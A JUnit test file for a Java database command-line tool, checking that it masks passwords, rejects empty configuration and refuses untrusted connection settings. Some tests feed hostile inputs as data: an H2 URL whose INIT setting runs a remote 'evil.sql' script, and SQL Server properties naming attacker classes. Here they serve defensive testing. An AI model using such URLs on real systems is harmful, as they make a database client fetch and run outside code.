package io.fcn.persistence.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Secrets, untrusted configuration and consistent exit codes on the command line (issue 18, points 1-8, 19). */
class FcnDbSecretsTest {

    @TempDir
    Path dir;

    private record Run(int code, String out, String err) {
        String all() {
            return out + err;
        }

        List<String> errorLines() {
            return err.lines().filter(l -> l.startsWith("fcn-db: ")).toList();
        }
    }

    private static Run run(Map<String, String> env, String... args) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ByteArrayOutputStream err = new ByteArrayOutputStream();
        int code = FcnDb.run(args, new PrintStream(out, true, StandardCharsets.UTF_8),
                new PrintStream(err, true, StandardCharsets.UTF_8), env);
        Run run = new Run(code, out.toString(StandardCharsets.UTF_8), err.toString(StandardCharsets.UTF_8));
        assertFalse(run.err().contains("\tat "), "no stack trace: " + run.err());
        return run;
    }

    private static Run run(String... args) {
        return run(Map.of(), args);
    }

    private String embeddedPath() {
        return dir.resolve("local").toString();
    }

    // ---- 1-4: secrets in URLs and in the driver's text ----

    @Test
    void anUnreachableSqlServerPrintsTheReasonAndNoSecretWhateverTheUrlLooksLike() {
        // Port 1 on the loopback: refused at once, no server needed.
        Map<String, List<String>> urls = Map.of(
                "jdbc:sqlserver://127.0.0.1:1;user=sa;password={S3cret;Pw!};loginTimeout=2", List.of("S3cret", "Pw!"),
                "jdbc:sqlserver://127.0.0.1:1;keyStoreAuthentication=JavaKeyStorePassword;keyStoreSecret=K3yStoreS3cret;"
                        + "aadSecurePrincipalSecret=AadS3cret;loginTimeout=2", List.of("K3yStoreS3cret", "AadS3cret"),
                "jdbc:sqlserver://127.0.0.1:1;encrypt=true;user=sa;password=p;loginTimeout=2", List.of("=p;", "=p:"),
                "jdbc:sqlserver://127.0.0.1:1;loginTimeout=2;user=sa;password=L4st-Secret", List.of("L4st-Secret"),
                "mssql+pyodbc://sa:Py0dbc-Secret@127.0.0.1:1/fcn?TrustServerCertificate=yes", List.of("Py0dbc-Secret"));
        urls.forEach((url, secrets) -> {
            Run r = run("info", "--url", url);
            assertEquals(ExitCode.FAILURE.code(), r.code(), r.err());
            for (String secret : secrets) {
                assertFalse(r.all().contains(secret), secret + " leaked: " + r.err());
            }
            assertTrue(r.err().contains("database: SQL Server jdbc:sqlserver://127.0.0.1:1"), r.err());
            assertTrue(r.err().contains("Connection refused") || r.err().contains("keyStoreLocation"),
                    "the driver's reason: " + r.err());
            assertFalse(r.err().contains("encry***t") || r.err().contains("***;Pw!"), r.err());
            assertEquals(1, r.err().lines().filter(l -> l.startsWith("fcn-db: error: cannot connect to")).count(),
                    r.err());
        });
    }

    @Test
    void anH2PasswordInTheUrlNeverShowsAndTheReasonDoes() throws Exception {
        String url = "jdbc:h2:file:" + dir.resolve("secured").toAbsolutePath();
        Path right = Files.writeString(dir.resolve("right.txt"), "p\n");
        assertEquals(0, run("migrate", "--url", url, "--user", "sa", "--password-file", right.toString()).code());
        Run r = run(Map.of("DATABASE_URL", url + ";USER=sa;PASSWORD=encrypt"), "info");
        assertEquals(ExitCode.FAILURE.code(), r.code());
        assertTrue(r.err().contains("Wrong user name or password"), r.err());
        assertTrue(r.err().contains("PASSWORD=***"), r.err());
        assertFalse(r.err().contains("PASSWORD=encrypt"), r.err());
        Run shortOne = run("info", "--url", url, "--user", "sa", "--password-file", right.toString());
        assertEquals(0, shortOne.code(), shortOne.err());
        assertTrue(shortOne.err().contains("database: H2 jdbc:h2:file:"), shortOne.err()); // no "***" inside words
    }

    // ---- 5: the help says how to keep the password out of the process list ----

    @Test
    void theHelpKeepsPasswordsOutOfTheProcessList() throws Exception {
        String help = run("--help").out();
        assertTrue(help.contains("process list"), help);
        assertTrue(help.contains("--password-file") && help.contains("DATABASE_URL"), help);
        assertFalse(help.contains("user:pass@"), help);
        String docs = Files.readString(Path.of("docs/cli.md"));
        assertTrue(docs.contains("process list") && docs.contains("--allow-url-classes")
                && docs.contains("--verbose"), "docs/cli.md");
    }

    // ---- 6: empty configuration is an error, and check names what it checked ----

    @Test
    void anEmptyDatabaseUrlIsBadUsageNotTheEmbeddedDefault() {
        Run empty = run(Map.of("DATABASE_URL", ""), "check");
        assertEquals(ExitCode.USAGE.code(), empty.code(), empty.err());
        assertTrue(empty.err().startsWith("fcn-db: DATABASE_URL is set but empty"), empty.err());
        Run blank = run(Map.of("DATABASE_URL", "  "), "check", "--embedded", embeddedPath());
        assertEquals(ExitCode.USAGE.code(), blank.code(), blank.err());
        Run url = run(Map.of("DATABASE_URL", "jdbc:h2:mem:x"), "check", "--url", "");
        assertEquals(ExitCode.USAGE.code(), url.code(), url.err());
        assertTrue(url.err().startsWith("fcn-db: --url is empty"), url.err());
        assertFalse(Files.exists(dir.resolve("local.mv.db")), "the embedded default is not used instead");

        assertEquals(0, run("migrate", "--embedded", embeddedPath()).code());
        Run check = run("check", "--embedded", embeddedPath());
        assertEquals(0, check.code(), check.err());
        assertTrue(check.out().contains("Checked: embedded H2 (file " + dir.resolve("local").toAbsolutePath()),
                check.out());
        String h2 = "jdbc:h2:file:" + dir.resolve("other").toAbsolutePath() + ";USER=sa;PASSWORD=Chk-S3cret";
        run("migrate", "--url", h2);
        Run named = run(Map.of("DATABASE_URL", h2), "check");
        assertEquals(0, named.code(), named.err());
        assertTrue(named.out().contains("Checked: H2 jdbc:h2:file:") && named.out().contains("PASSWORD=***"),
                named.out());
        assertFalse(named.all().contains("Chk-S3cret"), named.all());
    }

    // ---- 7: untrusted H2 settings and class-loading mssql-jdbc properties ----

    @Test
    void anH2UrlMayCarryOnlyTheSettingsTheLibraryAllows() {
        String base = "jdbc:h2:file:" + dir.resolve("h2").toAbsolutePath();
        Run init = run("info", "--url", base + ";INIT=RUNSCRIPT FROM 'http://127.0.0.1:1/evil.sql'");
        assertEquals(ExitCode.USAGE.code(), init.code(), init.err());
        assertTrue(init.err().startsWith("fcn-db: the H2 URL sets INIT to a value the library does not allow"),
                init.err());
        assertFalse(init.err().contains("RUNSCRIPT") || init.err().contains("evil"), init.err());
        Run other = run(Map.of("DATABASE_URL", base + ";IGNORE_UNKNOWN_SETTINGS=TRUE;ACCESS_MODE_LOG=x"), "info");
        assertEquals(ExitCode.USAGE.code(), other.code(), other.err());
        assertTrue(other.err().contains("IGNORE_UNKNOWN_SETTINGS, ACCESS_MODE_LOG, which the library does not allow"),
                other.err());
        assertFalse(Files.exists(dir.resolve("h2.mv.db")), "refused before connecting");
        Run allowed = run("info", "--url", base + ";CACHE_SIZE=8192;LOCK_TIMEOUT=2000");
        assertEquals(0, allowed.code(), allowed.err());
    }

    @Test
    void sqlServerPropertiesThatLoadAClassNeedAnExplicitOption() {
        for (String property : List.of("socketFactoryClass=evil.Factory", "TrustManagerClass={evil.Trust}",
                "accessTokenCallbackClass=evil.Callback", "trustManagerConstructorArg=x")) {
            Run r = run("info", "--url", "jdbc:sqlserver://127.0.0.1:1;" + property + ";loginTimeout=2");
            assertEquals(ExitCode.USAGE.code(), r.code(), r.err());
            assertTrue(r.err().contains("--allow-url-classes"), r.err());
            assertTrue(r.err().toLowerCase().contains(property.substring(0, property.indexOf('=')).toLowerCase()),
                    r.err());
            assertFalse(r.err().contains("database:"), "refused before connecting: " + r.err());
        }
        Run allowed = run("info", "--allow-url-classes", "--url",
                "jdbc:sqlserver://127.0.0.1:1;trustManagerClass=javax.net.ssl.X509TrustManager;loginTimeout=2");
        assertEquals(ExitCode.FAILURE.code(), allowed.code(), allowed.err());
        assertTrue(allowed.err().contains("database: SQL Server"), allowed.err());
    }

    // ---- 8: the embedded path ----

    @Test
    void anEmptyOrUnwritableEmbeddedPathIsOneLine() throws Exception {
        Path cwdFile = Path.of(Path.of("").toAbsolutePath() + ".mv.db");
        Run empty = run("info", "--embedded", "");
        assertEquals(ExitCode.USAGE.code(), empty.code(), empty.err());
        assertTrue(empty.err().startsWith("fcn-db: --embedded is empty"), empty.err());
        assertFalse(Files.exists(cwdFile), cwdFile.toString());

        Path file = Files.writeString(dir.resolve("a-file"), "not a folder");
        PrintStream systemErr = System.err;
        PrintStream systemOut = System.out;
        ByteArrayOutputStream stray = new ByteArrayOutputStream();
        Run unwritable;
        try {
            System.setErr(new PrintStream(stray, true, StandardCharsets.UTF_8));
            System.setOut(new PrintStream(stray, true, StandardCharsets.UTF_8));
            unwritable = run("info", "--embedded", file.resolve("sub/db").toString());
        } finally {
            System.setErr(systemErr);
            System.setOut(systemOut);
        }
        assertEquals(ExitCode.FAILURE.code(), unwritable.code(), unwritable.err());
        assertEquals(1, unwritable.errorLines().size(), unwritable.err());
        assertTrue(unwritable.errorLines().get(0).startsWith("fcn-db: error: "), unwritable.err());
        assertTrue(unwritable.errorLines().get(0).contains("is not a folder"), unwritable.err());
        assertEquals(1, unwritable.err().lines().filter(l -> !l.startsWith("database: ")).count(), unwritable.err());
        assertEquals("", stray.toString(StandardCharsets.UTF_8).strip(), "nothing printed around the streams");
    }

    @Test
    void theCommandLineDoesNotLogAFailedMigrationASecondTime() throws Exception {
        java.util.logging.Logger flyway = java.util.logging.Logger.getLogger(
                io.fcn.persistence.internal.scripts.FlywayLogging.LOGGER);
        java.util.logging.Level before = flyway.getLevel();
        List<java.util.logging.LogRecord> logged = new java.util.concurrent.CopyOnWriteArrayList<>();
        java.util.logging.Handler handler = new java.util.logging.Handler() {
            @Override
            public void publish(java.util.logging.LogRecord record) {
                if (record.getLoggerName() != null && record.getLoggerName().startsWith("io.fcn.persistence.flyway")) {
                    logged.add(record);
                }
            }

            @Override
            public void flush() {
            }

            @Override
            public void close() {
            }
        };
        java.util.logging.Logger root = java.util.logging.Logger.getLogger("");
        root.addHandler(handler);
        try {
            FcnDb.quietLogging();
            Path migrations = dir.resolve("q/db/migration");
            assertEquals(0, run(Map.of(), "new", "broken", "--dir", migrations.toString()).code());
            Path v = Files.list(migrations).findFirst().orElseThrow();
            Files.writeString(v, Files.readString(v) + "ALTER TABLE dbo.fcn_no_such_table ADD note INT NULL;\n");
            Run failed = run("migrate", "--embedded", embeddedPath(), "--dir", migrations.toString());
            assertEquals(ExitCode.FAILURE.code(), failed.code(), failed.err());
            assertEquals(List.of(), logged.stream().map(java.util.logging.LogRecord::getMessage).toList());
        } finally {
            root.removeHandler(handler);
            flyway.setLevel(before);
        }
    }

    // ---- 19: the same mistake, the same exit code; one line; --verbose ----

    @Test
    void anUnparsableVersionIsBadUsageForEveryCommand() {
        assertEquals(0, run("migrate", "--embedded", embeddedPath()).code());
        for (String[] args : List.of(new String[] {"undo", "--target", "abc"},
                new String[] {"migrate", "--target", "abc"}, new String[] {"baseline", "--version", "abc"},
                new String[] {"sql", "--target", "abc"}, new String[] {"sql", "--undo", "--target", "abc"},
                new String[] {"check", "--version", "abc"})) {
            String[] all = java.util.stream.Stream.concat(java.util.Arrays.stream(args),
                    java.util.stream.Stream.of("--embedded", embeddedPath())).toArray(String[]::new);
            Run r = run(all);
            assertEquals(ExitCode.USAGE.code(), r.code(), String.join(" ", args) + ": " + r.err());
            assertTrue(r.err().startsWith("fcn-db: not a version: abc\n"), r.err());
            assertEquals(2, r.err().lines().count(), r.err());
        }
    }

    @Test
    void aFailedMigrationIsOneLineAndVerboseShowsTheDetail() throws Exception {
        Path migrations = dir.resolve("project/db/migration");
        assertEquals(0, run(Map.of(), "new", "broken", "--dir", migrations.toString()).code());
        Path v = Files.list(migrations).filter(p -> p.getFileName().toString().startsWith("V")).findFirst()
                .orElseThrow();
        Files.writeString(v, Files.readString(v) + "ALTER TABLE dbo.fcn_no_such_table\n    ADD note INT NULL;\n");
        String h2 = "jdbc:h2:file:" + dir.resolve("m").toAbsolutePath() + ";USER=sa;PASSWORD=M1gr-S3cret";

        Run failed = run("migrate", "--url", h2, "--dir", migrations.toString());
        assertEquals(ExitCode.FAILURE.code(), failed.code());
        assertEquals(1, failed.errorLines().size(), failed.err());
        String line = failed.errorLines().get(0);
        assertTrue(line.startsWith("fcn-db: error: ") && line.contains("fcn_no_such_table"), line);
        assertFalse(failed.err().contains("-X option"), failed.err());
        assertFalse(failed.err().toLowerCase().contains("add note"), "the statement is detail: " + failed.err());
        assertTrue(failed.err().lines().allMatch(l -> l.startsWith("fcn-db: ") || l.startsWith("database: ")),
                failed.err());

        // A fresh database: on H2 the failed run leaves its history row (point 10 of the issue, not this test's).
        Run verbose = run("migrate", "--url", h2.replace("/m;", "/m2;"), "--dir", migrations.toString(), "--verbose");
        assertEquals(ExitCode.FAILURE.code(), verbose.code());
        List<String> detail = verbose.err().lines().filter(l -> l.startsWith("fcn-db: detail: ")).toList();
        assertTrue(detail.size() >= 2, verbose.err());
        assertTrue(detail.get(0).startsWith("fcn-db: detail: io.fcn.persistence.exceptions."), verbose.err());
        assertTrue(detail.stream().anyMatch(l -> l.contains("caused by org.h2.jdbc.JdbcSQLSyntaxErrorException")
                || l.contains("caused by org.flywaydb")), verbose.err());
        assertFalse(verbose.all().contains("M1gr-S3cret"), verbose.err());
        assertTrue(detail.stream().anyMatch(l -> l.toLowerCase().contains("add note")), "the statement: " + verbose.err());
        assertFalse(verbose.err().contains("-X option"), verbose.err());
        assertFalse(verbose.err().contains("\tat "), verbose.err());
        Map<String, String> env = new HashMap<>();
        env.put("DATABASE_URL", h2);
        Run connectVerbose = run(env, "--verbose", "info", "--password-file", dir.resolve("none").toString());
        assertEquals(ExitCode.USAGE.code(), connectVerbose.code());
    }
}
